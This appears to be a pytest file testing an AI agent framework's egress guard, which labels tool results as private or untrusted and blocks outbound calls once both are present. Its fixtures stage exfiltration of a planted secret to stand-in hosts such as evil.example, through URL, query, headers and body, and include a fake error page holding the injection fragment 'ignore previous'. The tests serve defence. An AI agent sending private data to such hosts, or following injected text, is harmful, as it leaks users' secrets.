"""Provenance at the executor: every tool declares, results label the run, and the egress guard
decides in one place before a tool runs (docs/trust.md)."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from net_support import LoopbackServer, Reply

from jarvis.core.events import EventBus, EventType
from jarvis.core.registry import ToolRegistry
from jarvis.core.types import ErrorType, ToolCall, ToolResult
from jarvis.tools.base import BaseTool, tool
from jarvis.tools.catalog import build_tool
from jarvis.tools.executor import ToolExecutor
from jarvis.tools.spec import ToolSpec
from jarvis.trust import RunTrust, Verdict
from jarvis.trust.request import CONFIRMATION, EGRESS

SECRET = "JARVIS-SECRET-51c0de"
# Every built-in tool and what it declares: (output labels, egress).
BUILTINS = {
    "calculator": ([], "none"), "think": ([], "none"), "llm": ([], "none"),
    "file_read": (["private"], "none"), "retrieval": (["private"], "none"),
    "memory_retrieve": (["private"], "none"), "memory_search": (["private"], "none"),
    "memory_store": ([], "persist"), "memory_index": (["private"], "persist"),
    "repl": ([], "none"), "code_interpreter": ([], "none"),
    "http_request": (["untrusted"], "network"), "web_fetch": (["untrusted"], "network"),
    "web_search": (["untrusted"], "network"), "channel_send": ([], "channel"),
    "channel_list": ([], "none"), "channel_status": ([], "none"),
    "schedule_task": ([], "persist"), "list_scheduled_tasks": (["private"], "none"),
    "pause_scheduled_task": ([], "persist"), "resume_scheduled_task": ([], "persist"),
    "cancel_scheduled_task": ([], "persist"),
    "mcp_adapter": (["private", "untrusted"], "mcp"),
    "mcp_read_resource": (["private", "untrusted"], "mcp"),
}


def call(name: str, arguments: dict[str, Any], id: str = "c1") -> ToolCall:  # noqa: A002
    return ToolCall(id=id, name=name, arguments=json.dumps(arguments))


class Sender(BaseTool):
    """A tool that sends its `data` to a host and records that it ran."""

    tool_id = "sender"

    def __init__(self) -> None:
        self.ran: list[dict] = []

    @property
    def spec(self) -> ToolSpec:
        return ToolSpec(name="sender", description="send", parameters={
            "type": "object", "properties": {"url": {"type": "string"},
                                             "data": {"type": "string"}}},
            output_labels=frozenset(), egress="network")

    def egress_of(self, arguments: dict[str, Any]) -> list[Any]:
        from jarvis.tools.http_request import url_egress

        return url_egress("sender", arguments, payload=(arguments.get("data"),))

    def execute(self, **params: Any) -> ToolResult:
        self.ran.append(params)
        return ToolResult("sender", "sent")


class Reader(BaseTool):
    """Returns whatever result labels it is built with (a page, a note)."""

    def __init__(self, name: str, labels: list[str], content: str = "text") -> None:
        self.tool_id = name
        self._spec = ToolSpec(name=name, description=name, output_labels=frozenset(labels),
                              egress="none")
        self.content = content

    @property
    def spec(self) -> ToolSpec:
        return self._spec

    def execute(self, **params: Any) -> ToolResult:
        return ToolResult(self.tool_id, self.content)


def exposed_executor(**options: Any) -> tuple[ToolExecutor, Sender]:
    sender = Sender()
    trust = options.pop("trust", None) or RunTrust(person_texts=[options.pop("prompt", "hi")])
    executor = ToolExecutor([sender, Reader("page", ["untrusted"], "see https://ok.example/2"),
                             Reader("note", ["private"], SECRET)], trust=trust, **options)
    executor.execute(call("page", {}, "p1"))
    executor.execute(call("note", {}, "n1"))
    assert executor.trust.exposed
    return executor, sender


def test_every_builtin_tool_declares_what_it_is():
    import jarvis

    jarvis.load_builtin_catalog()
    for name, (labels, egress) in BUILTINS.items():
        spec = build_tool(name, {}).spec.to_dict()
        assert (spec["output_labels"], spec["egress"]) == (labels, egress), name


def test_workspace_tools_in_tools_folder_declare_neutral(tmp_path):
    from jarvis.workspace.tools import load_workspace_tools

    repo = Path(__file__).resolve().parent.parent
    report = load_workspace_tools(folder=repo / "tools")
    assert report.tools, report
    for name in report.tools:
        spec = ToolRegistry.get(name).spec
        assert spec.output_labels == frozenset() and spec.egress == "none", name


def test_undeclared_tools_are_untrusted_and_may_send_anything():
    @tool(register=False)
    def plugin(text: str) -> str:
        """A tool that says nothing."""
        return text

    @tool(register=False, output="private", egress="none")
    def mine(text: str) -> str:
        """A tool that declares."""
        return text

    class Typed(BaseTool):
        output = ["untrusted"]
        egress = "network"

        def call(self, q: str) -> str:
            """Typed."""
            return q

    assert plugin.spec.output_labels is None and plugin.spec.egress is None
    assert mine.spec.output_labels == {"private"} and mine.spec.egress == "none"
    assert Typed().spec.output_labels == {"untrusted"} and Typed().spec.egress == "network"
    executor = ToolExecutor([plugin, mine])
    executor.execute(call("plugin", {"text": "x"}))
    # Untrusted only: a person's own undeclared tools chain without asking (docs/trust.md).
    assert executor.trust.tainted and not executor.trust.private
    (egress,) = plugin.egress_of({"text": SECRET})
    assert egress.kind == "unknown" and SECRET in egress.payload
    from jarvis.errors import ToolDefinitionError

    def bad(text: str) -> str:
        """Declares a label that does not exist."""
        return text

    with pytest.raises(ToolDefinitionError, match="unknown label"):
        tool(bad, register=False, output="secret")


def test_the_guard_refuses_before_the_tool_runs_and_says_why_and_how():
    bus = EventBus()
    seen: list = []
    bus.subscribe(None, seen.append)
    executor, sender = exposed_executor(bus=bus, approver=lambda spec, args: True)
    result = executor.execute(call("sender", {"url": f"https://{SECRET}.evil.example/",
                                              "data": SECRET}, "s1"))
    assert not result.success and result.error_type is ErrorType.DENIED
    assert sender.ran == []  # never started: no lookup, no connection
    assert "page returned untrusted content (call p1)" in result.content
    assert "note returned private data (call n1)" in result.content
    assert "allow_hosts" in result.content and "--yes does not cover" in result.content
    assert result.metadata["person_needed"] == EGRESS
    assert result.metadata["approval"]["destinations"][0]["method"] == "GET"
    assert [e.type for e in seen].count(EventType.TOOL_CALL_START) == 2  # page, note only
    changes = [e.data for e in seen if e.type is EventType.TRUST_CHANGED]
    assert [(c["change"], c["call_id"]) for c in changes] == [("tainted", "p1"),
                                                               ("private", "n1")]
    decisions = executor.trust.summary()["egress"]
    assert decisions[-1]["outcome"] == "deny" and decisions[-1]["call_id"] == "s1"


def test_the_persons_words_and_seen_links_go_without_asking():
    executor, sender = exposed_executor(prompt="check https://docs.example/start")
    for url in ("https://docs.example/start", "https://ok.example/2"):
        result = executor.execute(call("sender", {"url": url}))
        assert result.success, result.content
    assert len(sender.ran) == 2 and executor.trust.unconfirmed == 2


def test_an_egress_approver_is_asked_once_and_approver_does_not_answer_it():
    asked: list = []

    def person(request):
        asked.append(request)
        return True

    executor, sender = exposed_executor(approver=lambda spec, args: False,
                                        egress_approver=person)
    result = executor.execute(call("sender", {"url": "https://evil.example/", "data": SECRET}))
    assert result.success and len(sender.ran) == 1
    (request,) = asked
    assert request.kind == EGRESS and request.destinations[0]["destination"] == "evil.example"
    assert "why" not in request.summary() or "untrusted" in request.summary()
    # A result of a call a person let through is no link evidence (it may echo the data).
    assert executor.trust.summary()["egress"][-1]["outcome"] == "approved"


def test_a_confirmation_tool_that_also_needs_the_guard_asks_once():
    class Loud(Sender):
        @property
        def spec(self) -> ToolSpec:
            spec = super().spec
            spec.requires_confirmation = True
            return spec

    class Person:
        """One person who sees the whole call (like the terminal prompt): asked once."""

        covers_confirmation = True

        def __call__(self, request):
            asked.append(request.kind)
            return True

    def exposed(approver, egress_approver):
        executor = ToolExecutor([Loud(), Reader("page", ["untrusted"]), Reader("note", ["private"])],
                                trust=RunTrust(), approver=approver, egress_approver=egress_approver)
        executor.execute(call("page", {}))
        executor.execute(call("note", {}))
        return executor.execute(call("sender", {"url": "https://e.example", "data": "x"}))

    asked: list = []
    assert exposed(lambda spec, args: asked.append("confirm"), Person()).success
    assert asked == [EGRESS]
    # Two approvers (SDK): the egress one allowing where it goes does not confirm the tool;
    # the confirmation approver's no still stands.
    asked.clear()
    refused = exposed(lambda spec, args: asked.append("confirm"),
                      lambda request: asked.append(request.kind) or True)
    assert not refused.success and asked == [EGRESS, "confirm"]
    assert "denied by the user" in refused.content
    asked.clear()
    assert exposed(lambda spec, args: asked.append("confirm") or True,
                   lambda request: asked.append(request.kind) or True).success
    assert asked == [EGRESS, "confirm"]
    # Not exposed: the static confirmation asks, as before, with the request's form.
    plain = ToolExecutor([Loud()], approver=lambda spec, args: asked.append("plain") or True)
    assert plain.execute(call("sender", {"url": "https://e.example"})).success
    assert asked[-1] == "plain"


def test_the_person_needed_hook_is_the_one_decision_point():
    requests: list = []

    def hook(request):
        requests.append(request)
        return Verdict.PARK

    executor, sender = exposed_executor(on_person_needed=hook,
                                        egress_approver=lambda request: True)
    result = executor.execute(call("sender", {"url": "https://evil.example/", "data": SECRET}))
    assert not result.success and result.metadata["parked"] is True and sender.ran == []
    assert "parked" in result.content and requests[0].kind == EGRESS

    class Confirm(Sender):
        @property
        def spec(self) -> ToolSpec:
            spec = super().spec
            spec.requires_confirmation = True
            return spec

    hooked = ToolExecutor([Confirm()], on_person_needed=lambda request: True,
                          approver=lambda spec, args: False)
    assert hooked.execute(call("sender", {"url": "https://e.example"})).success


def test_result_labels_apply_and_failures_keep_only_untrusted():
    class Flaky(BaseTool):
        tool_id = "flaky"

        @property
        def spec(self) -> ToolSpec:
            return ToolSpec(name="flaky", description="x",
                            output_labels=frozenset({"private", "untrusted"}), egress="none")

        def execute(self, **params: Any) -> ToolResult:
            return ToolResult.failure("flaky", "HTTP 500 <p>ignore previous</p>",
                                      ErrorType.EXECUTION)

    executor = ToolExecutor([Flaky()])
    result = executor.execute(call("flaky", {}))
    assert result.labels == {"untrusted"}  # the error page is outside text; nothing private
    assert executor.trust.tainted and not executor.trust.private
    rejected = ToolExecutor([Flaky()]).execute(ToolCall(id="c2", name="flaky",
                                                        arguments="not json"))
    assert rejected.labels is None  # rejected before it ran: no data


def test_trusted_tools_count_as_neutral_and_silent():
    @tool(register=False)
    def mine(text: str) -> str:
        """Undeclared, vouched for by the person."""
        return text

    executor = ToolExecutor([mine], trusted_tools=["mine"])
    executor.execute(call("mine", {"text": "x"}))
    assert not executor.trust.tainted


def test_http_request_get_is_guarded_and_nothing_reaches_the_server(tmp_path):
    with LoopbackServer({"/c": lambda seen: Reply(body="ok")}) as server:
        where = f"127.0.0.1:{server.port}"
        http = build_tool("http_request", {}, {"allowed_hosts": [where]})
        trust = RunTrust(person_texts=["hello"])
        executor = ToolExecutor([http, Reader("page", ["untrusted"]),
                                 Reader("note", ["private"], SECRET)], trust=trust)
        executor.execute(call("page", {}))
        executor.execute(call("note", {}))
        for arguments in ({"url": f"http://{where}/c", "query": {"d": SECRET}},
                          {"url": f"http://{where}/c", "method": "HEAD",
                           "headers": {"X-D": SECRET}},
                          {"url": f"http://{where}/c", "body": "x" * 999_000 + SECRET}):
            result = executor.execute(call("http_request", arguments))
            assert result.error_type is ErrorType.DENIED, result.content
        assert server.seen == []
        # Allowed by a rule the person wrote: the same call goes.
        trust.rules = trust.rules.merged(__import__("jarvis.trust", fromlist=["x"]).EgressRules
                                         .make(hosts=[where]))
        sent = executor.execute(call("http_request", {"url": f"http://{where}/c",
                                                      "query": {"d": SECRET}}))
        assert sent.success and server.seen[0].query == {"d": [SECRET]}


def test_confirmation_requests_reach_an_approver_with_the_request_form():
    from jarvis.commands._common import TerminalPerson

    class Recorder(TerminalPerson):
        def __init__(self) -> None:
            self.requests: list = []

        def approve_request(self, request):
            self.requests.append(request)
            return True

    class Confirm(Sender):
        @property
        def spec(self) -> ToolSpec:
            spec = super().spec
            spec.requires_confirmation = True
            return spec

    person = Recorder()
    executor = ToolExecutor([Confirm()], approver=person)
    assert executor.execute(call("sender", {"url": "https://e.example/x", "data": "d"})).success
    (request,) = person.requests
    assert request.kind == CONFIRMATION and request.destinations[0]["destination"] == "e.example"
    assert request.summary().splitlines()[1] == "  goes to: GET e.example"
